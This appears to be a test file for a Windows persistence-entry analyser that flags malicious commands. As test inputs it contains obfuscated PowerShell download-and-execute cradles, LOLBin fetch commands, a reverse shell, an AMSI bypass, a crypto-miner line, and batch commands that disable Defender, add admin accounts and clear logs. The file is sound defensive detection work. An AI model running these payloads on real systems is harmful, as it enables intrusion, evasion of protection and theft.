/** Windows commands are read through their layers: the honest say nothing, the hidden are told, bombs end. */
import { describe, expect, test } from 'bun:test';
import { deflateRawSync, gzipSync } from 'node:zlib';
import type { CommandLanguage, PersistenceFact } from '../../../model/facts/persistence.ts';
import { printableText } from '../../../model/text.ts';
import { type EntryReading, readEntry } from '../read-entry.ts';

const wallet =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const codes = (text: string, change = 0): string =>
  [...text].map((letter) => letter.charCodeAt(0) ^ change).join(',');

function read(
  command: string,
  language: CommandLanguage = 'cmd',
  lines: readonly string[] = [],
): EntryReading {
  const text = printableText(command);
  const fact: PersistenceFact = {
    kind: 'persistence',
    source: { source: printableText('/Windows/System32/Tasks/x') },
    mechanism: 'cron-table',
    user: printableText('SYSTEM'),
    trigger: printableText('boot'),
    command: text,
    language,
    environment: [{ name: 'APPDATA', value: printableText('C:\\Users\\li\\AppData\\Roaming') }],
    body: lines.map((line, index) => ({ line: index + 1, text: printableText(line) })),
    active: true,
    marks: [],
    text,
  };
  return readEntry(fact);
}

const signs = (reading: EntryReading): readonly string[] => reading.signs.map(({ id }) => id);
const about = (reading: EntryReading, id: string): string | undefined =>
  reading.signs.find((sign) => sign.id === id)?.about;
const runs = (reading: EntryReading): readonly string[] => reading.uses.map(({ path }) => path);

describe('honest commands', () => {
  const honest: Readonly<Record<string, string>> = {
    'a service of Windows': '%SystemRoot%\\system32\\svchost.exe -k netsvcs -p',
    'a path with blanks': 'C:\\Program Files\\Vendor\\Update Tool\\up.exe /silent',
    'an update task':
      '"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe" /ua /installsource scheduler',
    'a backup by PowerShell':
      'powershell.exe -NoProfile -Command "Get-ChildItem D:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item"',
    'a script of the owner':
      'powershell.exe -ExecutionPolicy Bypass -File "D:\\Ops\\Rotate Logs.ps1" -Days 7',
    'text that is decoded and kept':
      'powershell -c "$t=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\'aGVsbG8=\')); Set-Content C:\\ops\\t.txt $t"',
    'a restart of a service': 'cmd /c net stop Spooler && net start Spooler',
    'a rundll32 of Windows': '%windir%\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations',
    'a caret before a sign': 'cmd /c echo a ^& b ^> c',
    'a download with its checksum kept by the owner':
      'curl.exe -o D:\\data\\rates.csv https://www.example.com/rates.csv',
  };
  for (const [name, command] of Object.entries(honest)) {
    test(`${name} has no sign`, () => {
      expect(signs(read(command))).toEqual([]);
    });
  }

  test('an encoded command of an administrator is told, with what it says, and nothing else', () => {
    const script = "Get-Service MSSQLSERVER | Where-Object Status -ne 'Running' | Start-Service";
    const reading = read(`powershell.exe -NoProfile -NonInteractive -EncodedCommand ${utf16(script)}`);
    expect(signs(reading)).toEqual(['encoded-command']);
    expect(reading.decoded).toEqual([printableText(script)]);
  });

  test('files are named with their drive, variables and device names replaced', () => {
    expect(runs(read('\\SystemRoot\\System32\\drivers\\a.sys'))).toEqual([
      'C:\\Windows\\System32\\drivers\\a.sys',
    ]);
    expect(runs(read('\\??\\C:\\Tools\\..\\b.exe -x'))).toEqual(['C:\\b.exe']);
    expect(runs(read('"%APPDATA%\\Vendor\\c.exe"'))).toEqual([
      'C:\\Users\\li\\AppData\\Roaming\\Vendor\\c.exe',
    ]);
  });
});

describe('commands of attackers', () => {
  const fetching = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')";

  test('base64 in UTF-16, in a hidden window, that fetches and runs', () => {
    const reading = read(`powershell -nop -w hidden -ep bypass -e ${utf16(fetching)}`);
    expect(signs(reading)).toEqual(['fetch-and-run', 'encoded-command', 'hidden-window']);
    expect(about(reading, 'fetch-and-run')).toBe('http://192.0.2.7/a.ps1');
    expect(reading.urls).toEqual(['http://192.0.2.7/a.ps1']);
  });

  test('three layers of it in one another', () => {
    const inner = `powershell -enc ${utf16(fetching)}`;
    const outer = `cmd /c powershell -EncodedCommand ${utf16(`cmd /c "${inner}"`)}`;
    const reading = read(outer);
    expect(signs(reading)).toContain('fetch-and-run');
    expect(reading.decoded).toHaveLength(2);
  });

  test.each([
    [
      'gzip',
      `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync(fetching).toString('base64')}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
    ],
    [
      'deflate',
      `sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${deflateRawSync(fetching).toString('base64')}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`,
    ],
    ['codes of characters', `iex (-join((${codes(fetching)})|%{[char]$_}))`],
    [
      'codes that are changed',
      `iex ([string]::Join('',(${codes(fetching, 0x35)}|foreach{[char]($_ -bxor 0x35)})))`,
    ],
    [
      'a text turned round',
      `$a='${[...fetching.replaceAll("'", '"')].reverse().join('')}'.ToCharArray();[array]::Reverse($a);iex(-join$a)`,
    ],
    [
      'an index that goes backwards',
      `iex (('${[...fetching.replaceAll("'", '"')].reverse().join('')}')[-1..-${fetching.length}] -join '')`,
    ],
  ])('%s', (_, script) => {
    const reading = read(`powershell -c "${script.replaceAll('"', '\\"')}"`);
    expect(signs(reading)).toEqual(expect.arrayContaining(['decode-and-run', 'fetch-and-run']));
    expect(about(reading, 'fetch-and-run')).toBe('http://192.0.2.7/a.ps1');
  });

  test.each([
    [
      'parts that are joined',
      "iex (New-Object ('Net'+'.WebC'+'lient')).('Down'+'loadString')('ht'+'tp://192.0.2.7/a.ps1')",
    ],
    [
      'parts that are set in',
      "&('{1}{0}'-f'ex','i') (New-Object Net.WebClient).DownloadString(('{0}{2}{1}'-f'http://','/a.ps1','192.0.2.7'))",
    ],
    [
      'a replacement',
      "iex (New-Object Net.WebClient).DownloadString('hXXp://192#0#2#7/a.ps1'.Replace('XX','tt').Replace('#','.'))",
    ],
    ['ticks', 'i`e`x (n`ew-obj`ect net.webclient)."do`wnloadstring"(\'http://192.0.2.7/a.ps1\')'],
    ['letters of known variables', "& ($pshome[4]+$pshome[30]+'x') (irm http://192.0.2.7/a.ps1)"],
    ['an alias', 'set-alias zz Invoke-Expression; zz (iwr http://192.0.2.7/a.ps1).Content'],
    ['a variable', '$u=\'http://192.0.2.7\'; $p="$u/a.ps1"; irm $p | iex'],
  ])('PowerShell with %s', (_, script) => {
    expect(about(read(script, 'powershell'), 'fetch-and-run')).toBe('http://192.0.2.7/a.ps1');
  });

  test('carets, substrings of variables and a variable of its own hide cmd from nobody', () => {
    expect(signs(read('cmd /c p^ow^er^sh^ell -c "iex (irm http://192.0.2.7/a)"'))).toEqual(
      expect.arrayContaining(['disguised-command', 'fetch-and-run']),
    );
    const own = read('cmd /V:ON /C "set a=ht&&set b=tp://192.0.2.7/p.ps1&&call powershell iex(iwr %a%%b%)"');
    expect(about(own, 'fetch-and-run')).toBe('http://192.0.2.7/p.ps1');
    const cut = read(
      '%ComSpec:~-7,1%%ComSpec:~-6,1%%ComSpec:~-5,1% /c certutil -urlcache -f http://192.0.2.7/m.exe %TEMP%\\m.exe & %TEMP%\\m.exe',
    );
    expect(signs(cut)).toEqual(expect.arrayContaining(['disguised-command', 'fetch-and-run']));
    expect(runs(cut)).toContain('C:\\Windows\\Temp\\m.exe');
  });

  test.each([
    ['mshta', 'mshta http://192.0.2.8/q.hta'],
    [
      'mshta with a script',
      'mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -c iex(irm http://192.0.2.8/q.hta)"", 0:close")',
    ],
    ['regsvr32', 'regsvr32 /s /n /u /i:http://192.0.2.8/q.hta scrobj.dll'],
    [
      'rundll32',
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.8/q.hta")',
    ],
    [
      'bitsadmin',
      'cmd /c bitsadmin /transfer j http://192.0.2.8/q.hta C:\\Users\\Public\\q.exe & C:\\Users\\Public\\q.exe',
    ],
    [
      'certutil',
      'cmd /c certutil.exe -urlcache -split -f http://192.0.2.8/q.hta C:\\ProgramData\\q.exe && start /b C:\\ProgramData\\q.exe',
    ],
    ['wmic', 'wmic os get /format:"http://192.0.2.8/q.hta"'],
    ['a pipe into PowerShell', "cmd /c echo iex(irm 'http://192.0.2.8/q.hta') | powershell -nop -"],
    ['a loop of cmd', 'cmd /c for /f "delims=" %i in (\'mshta http://192.0.2.8/q.hta\') do start %i'],
  ])('%s fetches and runs', (_, command) => {
    expect(about(read(command), 'fetch-and-run')).toBe('http://192.0.2.8/q.hta');
  });

  test('a miner on a line of its own, with its pool and its wallet', () => {
    const reading = read(
      `C:\\Windows\\System32\\winlogui.exe -o stratum+tcp://pool.example.com:3333 -u ${wallet} -p x`,
    );
    expect(about(reading, 'miner-command')).toBe('pool.example.com:3333');
    expect(runs(reading)).toEqual(['C:\\Windows\\System32\\winlogui.exe']);
  });

  test('a pool and a wallet inside an encoded command', () => {
    const script = `Start-Process C:\\Users\\Public\\a.exe -ArgumentList '-o pool.example.com:443 -u ${wallet} -k --tls' -WindowStyle Hidden`;
    const reading = read(`powershell -enc ${utf16(script)}`);
    expect(signs(reading)).toEqual(expect.arrayContaining(['miner-command', 'hidden-window']));
    expect(runs(reading)).toEqual(['C:\\Users\\Public\\a.exe']);
  });

  test('code that is kept in the registry and in WMI', () => {
    expect(
      signs(read('powershell -c "iex ([Text.Encoding]::Unicode.GetString((gp HKLM:\\Software\\x).y))"')),
    ).toContain('runs-stored-code');
    const wmi =
      "$c=([WmiClass]'root\\default:Win32_Services').Properties['mon'].Value;iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($c)))";
    expect(signs(read(wmi, 'powershell'))).toEqual(
      expect.arrayContaining(['runs-stored-code', 'decode-and-run']),
    );
  });

  test('what a batch file does to the host is told by its kind', () => {
    const reading = read('', 'cmd', [
      '@echo off',
      'powershell Add-MpPreference -ExclusionPath C:\\',
      'sc stop WinDefend',
      'net user admin$ Passw0rd! /add & net localgroup administrators admin$ /add',
      'netsh interface portproxy add v4tov4 listenport=65531 connectaddress=192.0.2.53 connectport=53',
      'taskkill /f /im xmrig.exe /im minerd.exe',
      'schtasks /create /sc minute /mo 5 /tn Mysa /tr "mshta http://192.0.2.8/q" /ru system',
      'wevtutil cl Security',
      'attrib +s +h C:\\Windows\\Fonts\\a.exe',
    ]);
    expect([...new Set(signs(reading))].sort()).toEqual(
      [
        'clears-traces',
        'fetch-and-run',
        'hides',
        'kills-rivals',
        'opens-account',
        'opens-tunnel',
        'stops-protection',
        'writes-persistence',
      ].sort(),
    );
  });

  test('a shell that is handed out, a scanner that is switched off', () => {
    expect(
      about(
        read(
          "$c=New-Object Net.Sockets.TCPClient('192.0.2.66',4444);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){$r=(iex $d 2>&1)}",
          'powershell',
        ),
        'reverse-shell',
      ),
    ).toBe('192.0.2.66:4444');
    expect(
      signs(
        read(
          "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
          'powershell',
        ),
      ),
    ).toContain('stops-protection');
  });

  test('scripts: VBScript with codes, what they save and run', () => {
    const run = `Set s = CreateObject("WScript.Shell")\ns.Run Chr(112) & "owershell -w hidden -c iex(irm http://192.0.2.8/v)", 0`;
    expect(about(read(run, 'windows-script'), 'fetch-and-run')).toBe('http://192.0.2.8/v');
    const saved = `x.Open "GET", "http://192.0.2.8/m.exe", False\nb.SaveToFile "C:\\Windows\\Temp\\m.exe", 2\ns.Run "C:\\Windows\\Temp\\m.exe"`;
    expect(about(read(saved, 'windows-script'), 'fetch-and-run')).toBe('http://192.0.2.8/m.exe');
  });
});

describe('hostile commands', () => {
  /** What a bound costs: it ends, and what is kept is small. */
  const ends = (command: string, language: CommandLanguage = 'cmd'): void => {
    const reading = read(command, language);
    const room = reading.decoded.reduce((sum, layer) => sum + layer.length, 0);
    expect(room).toBeLessThan(1_000_000);
    expect(reading.uses.length).toBeLessThanOrEqual(400);
    expect(reading.signs.length).toBeLessThanOrEqual(60);
  };

  test.each<[string, string, CommandLanguage]>([
    ['a value that doubles', `$a='${'A'.repeat(1000)}';${'$a=$a+$a;'.repeat(200)}iex $a`, 'powershell'],
    ['a text times a number', "iex ('A'*2000000000*2000000000)", 'powershell'],
    ['a range without end', "iex (1..2147483647 -join '')", 'powershell'],
    ['brackets in brackets', `${'('.repeat(20_000)}1${')'.repeat(20_000)}`, 'powershell'],
    ['blocks in blocks', `${'&{'.repeat(5_000)}iex 1${'}'.repeat(5_000)}`, 'powershell'],
    ['open quotes and here-strings', `@"\n${'"`$('.repeat(20_000)}`, 'powershell'],
    ['a loop over a loop', `1..60000|%{1..60000|%{1..60000|%{[char]$_}}}`, 'powershell'],
    [
      'a bomb of gzip',
      `iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync(Buffer.alloc(20_000_000, 65)).toString('base64')}'))),0))).ReadToEnd()`,
      'powershell',
    ],
    ['carets alone', '^'.repeat(200_000), 'cmd'],
    [
      'variables that name each other',
      `cmd /v /c "set a=%b%%b%&&set b=%a%%a%&&${'set a=!a!!a!x&&'.repeat(500)}call %a%"`,
      'cmd',
    ],
    ['separators alone', '&|'.repeat(100_000), 'cmd'],
    ['cmd in cmd', 'cmd /c '.repeat(20_000), 'cmd'],
    ['bytes that are no text', 'powershell -enc \u0000\uffff////%%%%====', 'cmd'],
    ['bidirectional and private letters', '\u202epowershell \ue000\ue800\uf8ff -c iex \ue000', 'cmd'],
    ['a script of quotes', '"'.repeat(100_000), 'windows-script'],
    ['Chr in Chr', `${'Chr('.repeat(20_000)}1`, 'windows-script'],
    ['conditions in conditions', 'if('.repeat(80_000), 'powershell'],
    ['casts of casts', '[a]'.repeat(80_000), 'powershell'],
    ['comments that nobody closes', '<# '.repeat(80_000), 'powershell'],
    ['comments that nobody closes in a block', `{${'<#'.repeat(120_000)}`, 'powershell'],
    ['here-strings that nobody closes', '@"\n'.repeat(80_000), 'powershell'],
    ['empty lines alone', '\n'.repeat(240_000), 'windows-script'],
    ['blanks where a text should follow', `x.Run${' '.repeat(240_000)}`, 'windows-script'],
  ])('%s comes to an end', (_, command, language) => {
    ends(command, language);
  });

  test('what stands behind too many levels is read, and a whole comment or here-string is what it was', () => {
    const fetch = "iex (irm 'http://192.0.2.8/v')";
    for (const before of [
      '$a='.repeat(5_000),
      '<# a <# b #>',
      '<# never closed\n',
      '@"\niex 1\r\n"@\n',
      "@'\n'@\n",
    ])
      expect(about(read(`${before}1\n${fetch}`, 'powershell'), 'fetch-and-run')).toBe('http://192.0.2.8/v');
    expect(signs(read(`<# ${fetch} #> 1`, 'powershell'))).toEqual([]);
    expect(about(read(`iex @"\r\n${fetch}\r\n"@`, 'powershell'), 'fetch-and-run')).toBe('http://192.0.2.8/v');
  });

  test('an encoded command in itself, deeper than is read, is told as far as it was read', () => {
    let command = 'calc.exe';
    for (let depth = 0; depth < 12 && command.length < 20_000; depth += 1)
      command = `powershell -enc ${utf16(command)}`;
    expect(signs(read(command))).toContain('encoded-command');
  });

  test('marks that stand in the command are no marks', () => {
    expect(signs(read('\ue000', 'powershell'))).toEqual([]);
    expect(signs(read("iex '\ue000\ue800'", 'powershell'))).toEqual([]);
  });
});
